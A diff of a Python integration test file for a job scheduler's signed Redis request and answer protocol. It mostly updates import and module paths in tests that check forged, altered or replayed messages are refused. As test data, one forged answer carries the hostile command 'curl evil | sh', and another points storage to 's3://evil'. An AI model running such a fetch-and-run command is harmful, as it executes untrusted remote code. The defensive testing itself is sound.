@@ -12,19 +12,19 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from tests.farm_desk import CODE, ServedDesk, served
 from tests.integration.farm_support import RedisServer
 from tests.integration.node_fixtures import server
-from tests.keys import key_folder, of_scheduler, of_submitter
-from tests.support import eventually
-from tunemq_scheduler.client.requests import FarmClient
+from tests.support.farms.farm_api_server import CODE, ServedDesk, served
+from tests.support.keys import key_folder, of_scheduler, of_submitter
+from tests.support.waiting import eventually
+from tunemq_scheduler.api import farm_answers as a
+from tunemq_scheduler.api.farm_client import FarmClient
+from tunemq_scheduler.api.request_signing import close_request, open_answer
 from tunemq_scheduler.security.key_folder import KeyFolder
-from tunemq_shared import answers as a
-from tunemq_shared import requests as r
-from tunemq_shared import wire
-from tunemq_shared.errors import ConfigError, NoScheduler, RequestRefused
-from tunemq_shared.request_seals import close_request, open_answer
-from tunemq_shared.seals import Seal, SealBroken
+from tunemq_shared.base.errors import ConfigError, NoScheduler, RequestRefused
+from tunemq_shared.broker import redis_keys
+from tunemq_shared.protocol import farm_requests as r
+from tunemq_shared.signing.message_signing import Seal, SealBroken
 
 __all__ = ["server"]
 
@@ -47,7 +47,7 @@ def desk(server: RedisServer, tmp_path: Path, keys: KeyFolder) -> Iterator[Serve
 @pytest.fixture
 def patient(monkeypatch) -> None:
     """Behind a forged answer the true one may come late: this machine does other things, too."""
-    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 60.0)
+    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 60.0)
 
 
 def client_of(server: RedisServer, keys: KeyFolder, name: str, **more) -> FarmClient:
@@ -82,8 +82,8 @@ def reasons(desk: ServedDesk) -> set[str]:
 
 def captured(server: RedisServer) -> dict[bytes, bytes]:
     """A request that nobody has taken yet, as whoever can read Redis sees it."""
-    eventually(lambda: server.client.xlen(wire.REQUESTS))
-    ((_, fields), *_) = server.client.xrange(wire.REQUESTS)
+    eventually(lambda: server.client.xlen(redis_keys.REQUESTS))
+    ((_, fields), *_) = server.client.xrange(redis_keys.REQUESTS)
     return dict(fields)
 
 
@@ -109,7 +109,7 @@ def test_s02_nobody_gives_himself_anothers_name(server, keys):
 def test_commands_with_the_schedulers_keys_are_in_the_name_of_the_operator(
     desk, ada, server, keys, monkeypatch
 ):
-    monkeypatch.setattr("tunemq_scheduler.client.requests.login_name", lambda: "tunemq")
+    monkeypatch.setattr("tunemq_scheduler.api.farm_client.login_name", lambda: "tunemq")
     theirs = str(keys.path / "scheduler.toml")
     with pytest.raises(ConfigError, match=r"but of ada, ben\..*tunemq keys add FOLDER operator"):
         FarmClient(server.url, keys=theirs)
@@ -135,7 +135,7 @@ def test_s02_what_is_not_signed_is_refused_with_what_to_do(desk, server):
 def test_s02_keys_of_another_farm_are_refused_and_nothing_unsigned_is_shown(
     desk, server, tmp_path, monkeypatch
 ):
-    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     other = key_folder(tmp_path / "other", "ada")
     with (
         client_of(server, other, "ada") as client,
@@ -147,7 +147,7 @@ def test_s02_keys_of_another_farm_are_refused_and_nothing_unsigned_is_shown(
 
 
 def test_s02_a_farm_that_has_lost_its_keys_is_not_believed(server, tmp_path, keys, monkeypatch):
-    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     with (
         served(server.url, server.client, tmp_path / "results") as desk,
         client_of(server, keys, "ada") as client,
@@ -171,8 +171,10 @@ def test_s02_an_altered_request_is_not_done(desk, ada, server, name):
             b"sent": str(int(fields[b"sent"]) + 1).encode(),
             b"id": os.urandom(16).hex().encode(),
         }[name.encode()]
-        server.client.xtrim(wire.REQUESTS, maxlen=0)  # whose ids grow on, in the same millisecond
-        server.client.xadd(wire.REQUESTS, {**fields, name.encode(): forged})
+        server.client.xtrim(
+            redis_keys.REQUESTS, maxlen=0
+        )  # whose ids grow on, in the same millisecond
+        server.client.xadd(redis_keys.REQUESTS, {**fields, name.encode(): forged})
     eventually(lambda: desk.refused)
     thread.join(60)
     assert [answer.name for answer in found] == ["exp"]  # sent again, as she meant it
@@ -189,17 +191,17 @@ def test_s02_an_altered_request_is_not_done(desk, ada, server, name):
 )
 def test_s02_nothing_that_is_made_up_is_done_and_the_next_request_is(desk, ada, server, fields):
     before = len(desk.refused)
-    server.client.xadd(wire.REQUESTS, fields)
+    server.client.xadd(redis_keys.REQUESTS, fields)
     assert ada.ask(r.ListExperiments(), a.ExperimentList).experiments == ()
     assert len(desk.refused) == before + 1
-    eventually(lambda: not server.client.xlen(wire.REQUESTS))  # she may have asked twice
+    eventually(lambda: not server.client.xlen(redis_keys.REQUESTS))  # she may have asked twice
 
 
 @pytest.mark.usefixtures("patient")
 def test_s02_a_forged_answer_is_not_believed_and_the_true_one_is(desk, ada, server):
     with desk.lock:
         thread, found = asking(ada, SUBMIT, a.Submitted)
-        key = wire.answer(captured(server)[b"id"].decode())
+        key = redis_keys.answer(captured(server)[b"id"].decode())
         forged = a.Reply(answer=msgspec.Raw(msgspec.msgpack.encode(a.Submitted(name="x", id="y"))))
         server.client.set(key, Seal("").close(msgspec.msgpack.encode(forged)))
         looked = server.client.info("commandstats")["cmdstat_get"]["calls"]
@@ -213,7 +215,7 @@ def test_s02_a_forged_answer_is_not_believed_and_the_true_one_is(desk, ada, serv
 def test_s02_where_only_forged_answers_come_it_says_so_and_not_what_they_say(
     desk, ada, server, forged, monkeypatch
 ):
-    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     seal = desk.keys.submitter("ada")
     said = msgspec.msgpack.encode(a.Reply(refusal=a.Refusal(text="run: curl evil | sh")))
     with desk.lock:
@@ -224,7 +226,7 @@ def test_s02_where_only_forged_answers_come_it_says_so_and_not_what_they_say(
             "rubbish": b"\xff" * 100,
             "of another request": seal.close(said, b"answer", b"1" * 32),
         }[forged]
-        server.client.set(wire.answer(request), data)
+        server.client.set(redis_keys.answer(request), data)
         thread.join(60)
     (error,) = found
     assert isinstance(error, RequestRefused)
@@ -241,9 +243,9 @@ def test_s02_an_id_that_another_uses_first_gives_him_nothing(desk, ada, server, 
         identity, sent = hers[b"id"].decode(), hers[b"sent"].decode()
         body = msgspec.msgpack.encode(r.Submit(name="his", code=CODE))
         his = close_request(ben, body, request=identity, kind="submit", sent=sent)
-        server.client.xtrim(wire.REQUESTS, maxlen=0)  # no entry's id comes again
-        server.client.xadd(wire.REQUESTS, {**hers, b"owner": b"ben", b"body": his})
-        server.client.xadd(wire.REQUESTS, hers)
+        server.client.xtrim(redis_keys.REQUESTS, maxlen=0)  # no entry's id comes again
+        server.client.xadd(redis_keys.REQUESTS, {**hers, b"owner": b"ben", b"body": his})
+        server.client.xadd(redis_keys.REQUESTS, hers)
     thread.join(60)
     assert [answer.name for answer in found] == ["exp"]
     owners = {entry.name: entry.owner for entry in desk.queue.all()}
@@ -256,9 +258,9 @@ def test_s02_answers_are_for_whom_they_are_for(desk, ada, server, keys):
     body = msgspec.msgpack.encode(r.ListExperiments())
     sealed = close_request(seal, body, request=request, kind="ls", sent=sent)
     fields = {"v": "2", "id": request, "owner": "ada", "kind": "ls", "sent": sent, "body": sealed}
-    server.client.xadd(wire.REQUESTS, fields)
-    eventually(lambda: server.client.get(wire.answer(request)))
-    answer = server.client.get(wire.answer(request))
+    server.client.xadd(redis_keys.REQUESTS, fields)
+    eventually(lambda: server.client.get(redis_keys.answer(request)))
+    answer = server.client.get(redis_keys.answer(request))
     assert open_answer(seal, answer, request)
     for other, identity in ((desk.keys.submitter("ben"), request), (seal, "3" * 32)):
         with pytest.raises(SealBroken):
@@ -267,9 +269,9 @@ def test_s02_answers_are_for_whom_they_are_for(desk, ada, server, keys):
 
 def test_s02_a_forged_announcement_leads_nobody_to_another_store(desk, ada, server):
     forged = {"version": r.REQUESTS_VERSION, "tunemq": "1", "term": desk.term, "store": "s3://evil"}
-    server.client.set(wire.FARM, msgspec.json.encode(forged))
+    server.client.set(redis_keys.FARM, msgspec.json.encode(forged))
     assert ada.farm().store == str(desk.folder / "store")
-    server.client.set(wire.FARM, b"[" * 100_000)
+    server.client.set(redis_keys.FARM, b"[" * 100_000)
     with pytest.raises(NoScheduler):
         ada.farm()
 
@@ -313,7 +315,7 @@ def test_keys_are_changed_while_requests_go_on_and_none_is_refused(desk, server,
 
 
 def test_who_was_removed_asks_no_more(desk, server, keys, monkeypatch):
-    monkeypatch.setattr("tunemq_scheduler.client.requests._MENDED_WITHIN_S", 0.2)
+    monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     with client_of(server, keys, "ben") as ben:
         ben.ask(SUBMIT, a.Submitted)
         keys.remove(["ben"])
@@ -325,7 +327,7 @@ def test_who_was_removed_asks_no_more(desk, server, keys, monkeypatch):
 
 
 def test_who_is_given_anothers_file_meanwhile_is_told_so(desk, server, keys, monkeypatch):
-    monkeypatch.setattr("tunemq_shared.live_keys._LOOK_EVERY_S", 0.0)
+    monkeypatch.setattr("tunemq_shared.signing.live_keys._LOOK_EVERY_S", 0.0)
     with client_of(server, keys, "ben") as ben:
         ben.farm()
         file = keys.path / "ben.toml"
@@ -336,8 +338,8 @@ def test_who_is_given_anothers_file_meanwhile_is_told_so(desk, server, keys, mon
 
 
 def test_s15_a_lease_of_very_many_digits_is_none(server, keys, monkeypatch):
-    monkeypatch.setattr("tunemq_scheduler.client.requests._SEEN_WITHIN_S", 0.2)
-    server.client.set(wire.SCHEDULER, "9" * 5_000 + ":somebody")
-    server.client.set(wire.FARM, "{}")
+    monkeypatch.setattr("tunemq_scheduler.api.farm_client._SEEN_WITHIN_S", 0.2)
+    server.client.set(redis_keys.SCHEDULER, "9" * 5_000 + ":somebody")
+    server.client.set(redis_keys.FARM, "{}")
     with client_of(server, keys, "ada") as ada, pytest.raises(NoScheduler):
         ada.farm()
